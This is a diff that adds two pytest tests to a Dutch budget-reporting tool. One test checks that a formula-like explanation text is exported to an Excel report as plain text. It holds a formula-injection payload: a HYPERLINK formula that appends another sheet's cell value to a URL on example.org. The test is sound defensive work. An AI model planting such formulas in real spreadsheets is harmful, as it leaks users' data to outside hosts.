@@ -16,8 +16,11 @@ from jbjr_budget.catalog import Catalog
 from jbjr_budget.cli import main
 from jbjr_budget.monitoring.importer import import_files
 from jbjr_budget.monitoring.layout import build_layout, template_name
+from jbjr_budget.monitoring.ledger import Ledger
 from jbjr_budget.monitoring.periode import Periode
+from jbjr_budget.monitoring.report import write_report
 from jbjr_budget.monitoring.template import write_template
+from jbjr_budget.monitoring.validate import validate_file
 from jbjr_budget.parameter_tree import ParameterTree
 from jbjr_budget.tariffs import tariff
 
@@ -158,3 +161,28 @@ def test_report_without_submissions_is_a_dutch_error(setup: dict, capsys: pytest
                  "--uitvoer", str(setup["root"] / "x.xlsx")]) == 2
     assert "geen aanleveringen voor periode 2030-Q1" in capsys.readouterr().err
     assert not (setup["root"] / "x.xlsx").exists()
+
+
+def test_a_gi_text_that_looks_like_a_formula_stays_text_in_the_report(tmp_path: Path, catalog: Catalog) -> None:
+    # A ledger written before the importer refused such texts may still hold one.
+    layout = build_layout(catalog, "jgb", "alkmaar", Q1)
+    source = write_template(layout, tmp_path / template_name("jgb", "alkmaar", Q1), typed_values(layout, 9))
+    submission = validate_file(source, catalog).submission
+    assert submission is not None
+    evil = '=HYPERLINK("https://example.org/?"&Realisatie!F5,"klik")'
+    submission.rows["toelichting"][0]["tekst"] = evil
+    with Ledger(tmp_path / "gb.sqlite") as ledger:
+        ledger.store(submission)
+        report = write_report(ledger, Q1, tmp_path / "rapport.xlsx")
+    ws = load_workbook(report)["Toelichting GI's"]
+    cells = [c for c in ws["D"] if c.value == evil]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
+
+
+def test_only_sections_with_a_text_are_listed(setup: dict) -> None:
+    table = _rows(setup["report"], "Toelichting GI's")
+    typed = {(gi, regio): v[("toelichting", (("sectie", "volumes"),), "tekst")]
+             for (gi, regio, code), v in setup["typed"].items() if code == "2026-Q1"}
+    assert sorted(table.Toelichting) == sorted(typed.values())
+    assert set(table.Onderdeel) == {"volumes"}
